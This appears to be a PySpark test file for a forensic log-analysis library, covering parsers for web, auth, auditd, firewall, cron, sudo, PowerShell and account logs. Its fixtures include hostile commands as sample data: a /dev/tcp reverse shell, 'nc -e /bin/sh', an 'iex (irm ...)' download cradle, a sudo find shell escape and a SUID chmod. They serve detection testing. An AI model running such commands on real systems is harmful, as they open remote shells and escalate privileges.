from __future__ import annotations

from pyspark.sql import functions as F

from emberlog.operators import logs, rules, web


def test_access_line_variants(lines):
    df = web.parse_access(
        lines(
            ("a", '1.2.3.4 - bob [19/May/2026:09:11:17 +0000] "GET /a b?x=1?y HTTP/1.1" 200 12 "-" "UA \\"q\\" z"'),
            ("a", '"5.6.7.8 - - [19/May/2026:09:11:17 +0000] "GET / HTTP/1.1" 404 - "-" "UA""'),
            ("a", '9.9.9.9 - - [19/May/2026:09:11:17 +0000] "GET / HTTP/1.1" 200 5 TLSv1.3 AES "ref" "ua" X-Forwarded-For="dead, 7.7.7.7, 1.1.1.1"'),
            ("a", '9.9.9.9 - - [19/May/2026:09:11:17 +0000] "\\x16\\x03" 400 5'),
            ("a", "not a request"),
        )
    ).orderBy("line_no").collect()
    assert [(r.ip, r.edge_ip, r.method, r.path, r["query"], r.status, r.ua) for r in df] == [
        ("1.2.3.4", "", "GET", "/a b", "x=1?y", "200", 'UA \\"q\\" z'),
        ("5.6.7.8", "", "GET", "/", "", "404", "UA"),
        ("7.7.7.7", "9.9.9.9", "GET", "/", "", "200", "ua"),
        ("9.9.9.9", "", "", "\\x16\\x03", "", "400", ""),
    ]


def test_hostile_access_line_does_no_harm(lines):
    hostile = '1.1.1.1 - - [x] "' + "\\\\" * 20000 + '" 200 1'
    assert web.parse_access(lines(("a", hostile))).count() == 1


def test_access_lines_are_matched_whole(lines):
    start, end = '10.0.0.1 - - [10/Oct/2023:13:55:36 +0000] "GET /', '" 200 5 "http://r/" "agent"'
    rows = [
        start + "a" * 70_000 + " HTTP/1.1" + end + " x-forwarded-for: 8.8.8.8",
        start + '\\"' * 200_000 + " HTTP/1.1" + end,
        start + "b HTTP/1.1" + end + " " * 70_000 + 'x-forwarded-for: "9.9.9.9"',
        start + "c HTTP/1.1" + '" 200 5' + " " * 200_000 + "x",
        start + "d HTTP/1.1" + end + " x-forwarded-for:" + "\t" * 200_000 + "z",
    ]
    got = {r.line_no: r for r in web.parse_access(lines(*(("a", x) for x in rows))).collect()}
    assert [got[i].ip for i in range(1, 6)] == ["8.8.8.8", "10.0.0.1", "9.9.9.9", "10.0.0.1", "10.0.0.1"]
    assert [(got[i].status, got[i].ua) for i in range(1, 6)] == [("200", "agent")] * 3 + [("200", ""), ("200", "agent")]
    assert len(got[1].path) == 70_001 and len(got[2].path) == 400_001


def test_auth_dispatch_by_program(lines):
    got = logs.auth_events(
        lines(
            ("auth.log", "May  1 10:00:00 box sshd[1]: Accepted publickey for bob from 10.0.0.1 port 22 ssh2"),
            ("auth.log", "May  1 10:00:00 box sshd[1]: Accepted publickey for bob from 10.0.0.1 port 22 ssh2"),
            ("auth.log", "May  1 10:00:01 box sshd[1]: Failed password for invalid user eve from 10.0.0.2 port 23 ssh2"),
            ("auth.log", "May  1 10:00:02 box sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
            ("auth.log", "May  1 10:00:03 box cron[9]: session opened for user root"),
            ("auth.log", "May  1 10:00:04 box useradd[9]: new user: name=mallory, UID=0"),
        )
    )
    assert sorted((r.event, r.user, r.source) for r in got.collect()) == [("ssh_accepted", "bob", "10.0.0.1"), ("ssh_failed", "eve", "10.0.0.2"), ("sudo", "bob", ""), ("user_add", "mallory", "")]


def test_auditd_joins_records_of_a_serial(lines):
    got = logs.auditd(
        lines(
            ("a.log", 'type=SYSCALL msg=audit(1.5:7): arch=x syscall=59 uid=0 exe="/usr/bin/nc"'),
            ("a.log", 'type=EXECVE msg=audit(1.5:7): argc=3 a0="nc" a1="-e" a2=2F62696E2F7368'),
            ("b.log", 'type=CWD msg=audit(1.5:7): cwd="/tmp"'),
        )
    ).orderBy("type").collect()
    assert [(r.type, r.CommandLine, r.Image, r.CurrentDirectory) for r in got] == [("CWD", "", "", "/tmp"), ("EXECVE", "nc -e /bin/sh", "/usr/bin/nc", ""), ("SYSCALL", "nc -e /bin/sh", "/usr/bin/nc", "")]
    assert {r.SYSCALL for r in got} == {None, "execve"}


def test_fortigate_shapes(lines):
    got = logs.fortigate(
        lines(
            ("f", 'date=2024-01-01 time=10:00:00 logid="1" type="event" logdesc="Admin login successful" status="success" eventtime=1700000000000000000 user="bob"date=2024-01-02 time=11:00:00 logid="2" type="utm" subtype="virus" action="blocked" eventtime=1700000000 virus="EICAR"'),
            ("f", '"date=2024-01-03","time=12:00:00","logid=3","type=""traffic""","srcip=""1.2.3.4"""'),
            ("f", "nothing"),
        )
    ).orderBy("time_local").collect()
    assert [(r.time_local, r.flag, r.srcip, r.detail, r.user) for r in got] == [("2024-01-01 10:00:00", "admin_login", "", "Admin login successful", "bob"), ("2024-01-02 11:00:00", "utm_virus", "", "EICAR", ""), ("2024-01-03 12:00:00", "", "1.2.3.4", "", "")]
    assert str(got[0].time_utc) == str(got[1].time_utc) == "2023-11-14 22:13:20"


def test_bodyfile_cron_sudo(lines):
    body = logs.bodyfile(lines(("b", "0|/a|b|12|r/rrw|0|0|5|0|1700000000|-1|1700000001"))).first()
    assert (body.name, body.inode, body.size, body.atime_utc, str(body.mtime_utc)) == ("/a|b", "12", "5", None, "2023-11-14 22:13:20")
    cron = logs.cron_log(lines(("c", "May  1 10:00:00 h CRON[1]: (root) CMD (/tmp/x.sh )"), ("c", "May  1 10:00:00 h crontab[1]: (bob) REPLACE (bob)"), ("c", "May  1 10:00:00 h cron[1]: (*system*) RELOAD (/etc/crontab)")))
    assert sorted((r.kind, r.user, r.command, r.suspicious) for r in cron.collect()) == [("crontab_replace", "bob", "bob", False), ("exec", "root", "/tmp/x.sh", True), ("reload", "*system*", "/etc/crontab", False)]
    sudo = logs.sudo_log(lines(("s", "May  1 10:00:00 2024 : bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/ls a=b"))).first()
    assert (sudo.time_local, sudo.user, sudo.runas, sudo.tty, sudo.status, sudo.command, sudo.suspicious) == ("2024-05-01 10:00:00", "bob", "root", "pts/0", "3 incorrect password attempts", "/bin/ls a=b", True)


def test_package_history(lines):
    got = logs.package_history(
        lines(
            ("/var/log/apt/history.log", "Start-Date: 2024-01-01  10:00:00"),
            ("/var/log/apt/history.log", "Requested-By: bob (1000)"),
            ("/var/log/apt/history.log", "Install: nmap:amd64 (7.9), zlib:amd64 (1.2, automatic)"),
            ("/var/log/apt/history.log", ""),
            ("/var/log/dpkg.log", "2024-01-01 10:00:01 install socat:amd64 <none> 1.7"),
            ("/var/log/dnf.rpm.log", "2024-01-01T10:00:00Z SUBDEBUG Installed: vim-9.0"),
            ("/var/log/yum.log", "Jan 01 10:00:00 Erased: hydra-9"),
        )
    )
    assert sorted((r.source, r.action, r.package, r.version, r.suspicious) for r in got.collect()) == [
        ("apt_history", "install", "nmap", "7.9", True), ("apt_history", "install", "zlib", "1.2, automatic", False), ("dnf_rpm", "install", "vim-9.0", "", False), ("dpkg", "install", "socat", "1.7", True), ("yum", "remove", "hydra-9", "", True),
    ]


def test_powershell_lines_are_joined(spark):
    df = spark.createDataFrame([("h", "u", i, t) for i, t in enumerate(["Get-X `", "  -Name y", "", "iex (irm http://x)", "last `"], 1)], "host string, user string, line_no long, line string")
    got = logs.powershell_history(df).orderBy("seq")
    assert [(r.seq, r.command) for r in got.collect()] == [(1, "Get-X  -Name y"), (2, "iex (irm http://x)"), (3, "last")]
    assert [r.f for r in got.select(logs.powershell_flag(F.col("command")).alias("f")).collect()] == [None, "download_cradle", None]


def test_shell_escapes_first_technique(spark):
    df = spark.createDataFrame([("sudo find / -exec /bin/sh \\;",), ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1",), ("ls",), ("chmod u+s /bin/bash",)], "command string")
    got = {r.command[:4]: (r.binary, r.function, r.sudo) for r in logs.shell_escapes(df).collect()}
    assert got == {"sudo": ("find", "shell", True), "bash": ("bash", "reverse-shell", False), "chmo": ("chmod", "suid", False)}


def test_utmp_with_torn_tail(spark):
    record = (7).to_bytes(2, "little") + b"\0\0" + b"\0" * 4 + b"pts/0".ljust(32, b"\0") + b"\0" * 4 + b"bob".ljust(32, b"\0") + b"10.0.0.9".ljust(256, b"\0") + b"\0" * 8 + (1700000000).to_bytes(4, "little")
    record = record.ljust(384, b"\0")
    df = spark.createDataFrame([("w", bytearray(record + record[:100]))], "path string, content binary")
    (r,) = logs.utmp_records(df).collect()
    assert (r.user, r.type, r.line, r.host, str(r.time_utc)) == ("bob", "USER_PROCESS", "pts/0", "10.0.0.9", "2023-11-14 22:13:20")


def test_accounts_and_known_hosts(spark, lines):
    passwd = lines(("p", "root:x:0:0:root:/root:/bin/bash"), ("p", "toor:x:0:5::/:/bin/sh"), ("p", "bob:x:1000:100:Bob:/home/bob:/bin/bash"), ("p", "short:x"))
    group = lines(("g", "root:x:0:"), ("g", "users:x:100:"), ("g", "sudo:x:27:bob, eve"))
    shadow = lines(("s", "root:$6$x:1::::::"), ("s", "toor::1::::::"), ("s", "bob:!:1::::::"))
    got = {r.user: (r.group, r.extra_groups, r.pw_status, r.privileged, r.suspicious) for r in logs.accounts(passwd, group, shadow).collect()}
    assert got == {"root": ("root", "", "password_set", True, False), "toor": ("", "", "no_password", False, True), "bob": ("users", "sudo", "locked", True, False)}
    kh = spark.createDataFrame([("h", "bob", "web ssh-rsa A"), ("h", "bob", "web ssh-ed25519 B"), ("h", "bob", "|1|x= ssh-rsa C"), ("h", "bob", "# c")], "host string, account string, line string")
    assert sorted((r.target, r.key_types, r.entries) for r in logs.known_hosts(kh).collect()) == [("(hashed)", "ssh-rsa", 1), ("web", "ssh-ed25519+ssh-rsa", 2)]


def test_rules_and_indicators(spark):
    rule = rules.load_rule({"id": "1", "title": "t", "level": "high", "logsource": {"service": "sshd"}, "detection": {"a": ["failed", "in*valid"], "b": {"gone": "x"}, "condition": "a or b"}})
    rows = spark.createDataFrame([("Failed login", "sshd"), ("Failed login", "cron"), ("ok", "sshd"), ("in-valid", "sshd")], "message string, proc string")
    assert sorted(r.message for r in rules.scan(rows, [rule]).collect()) == ["Failed login", "in-valid"]
    got, warnings = rules.load_indicators("# c\nname = a.b  # note\nplain\nbad = (\n%{x = y")
    assert got == [("name", "a.b"), ("plain", "plain"), ("%{x", "y")] and len(warnings) == 1
    assert rules.load_rule({"title": "x"}) is None


def test_incident_merge_never_overwrites(spark):
    from emberlog.operators import logons

    cols = "when_utc string, source string, destination string, user string, evidence string, note string"
    log = spark.createDataFrame([("t1", "a", "b", "u", "e", "mine"), (None, "a", "b", "u", "e", "mine")], cols)
    new = spark.createDataFrame([("t1", "a", "b", "u", "e", "theirs"), ("t2", "a", "b", "u", "e", "theirs"), ("t2", "a", "b", "u", "e", "theirs"), (None, "a", "b", "u", "e", "theirs")], cols)
    assert [(r.when_utc, r.note) for r in logons.merge_incidents(log, new).collect()] == [("t2", "theirs")]


def test_merge_keeps_single_volume_repeats_and_folds_names(spark):
    from emberlog.operators import merge

    a = spark.createDataFrame([(3, "x"), (3, "x")], "id int, msg string")
    assert merge.merge_snapshots({"C": a}).count() == 2
    b = spark.createDataFrame([(3, "x"), (2, "y")], "ID int, MSG string")
    c = spark.createDataFrame([(3, "x"), (2, "y"), (1, None)], "id int, msg string")
    got = merge.merge_snapshots({"C": a, "VSS2": c, "VSS1": b})
    assert sorted((r.id, r.volumes) for r in got.collect()) == [(1, "VSS2"), (2, "VSS1,VSS2"), (3, "C,VSS1,VSS2")]
